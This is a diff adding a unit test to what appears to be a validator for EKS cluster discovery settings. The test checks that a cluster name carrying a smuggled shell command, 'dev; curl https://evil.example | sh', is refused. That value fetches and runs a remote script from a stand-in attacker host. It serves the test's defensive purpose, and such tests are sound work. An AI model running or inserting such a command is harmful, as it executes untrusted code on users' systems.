@@ -219,6 +219,12 @@ describe('validateDiscovery', () => {
     expect(issuesOf({ ...valid, ...change })).toEqual([issue]);
   });
 
+  test('a cluster name that is not an EKS name (it ends up in a command the user pastes) is refused', () => {
+    expect(issuesOf({ ...valid, clusterName: 'dev; curl https://evil.example | sh' })).toEqual([
+      'clusterName: must be an EKS cluster name (letters, digits, - and _), got "dev; curl https://evil.example | sh"',
+    ]);
+  });
+
   test('bound to the stage: EKS endpoints of the stage region (commercial partition, the only one stages use; any case) pass', () => {
     expect(issuesOf({ ...valid, clusterEndpoint: 'https://ABCDEF0123456789.gr7.us-west-2.eks.amazonaws.com' })).toEqual([]);
     expect(issuesOf({ ...valid, clusterEndpoint: 'https://abc.yl4.us-west-2.eks.amazonaws.com/' })).toEqual([]);
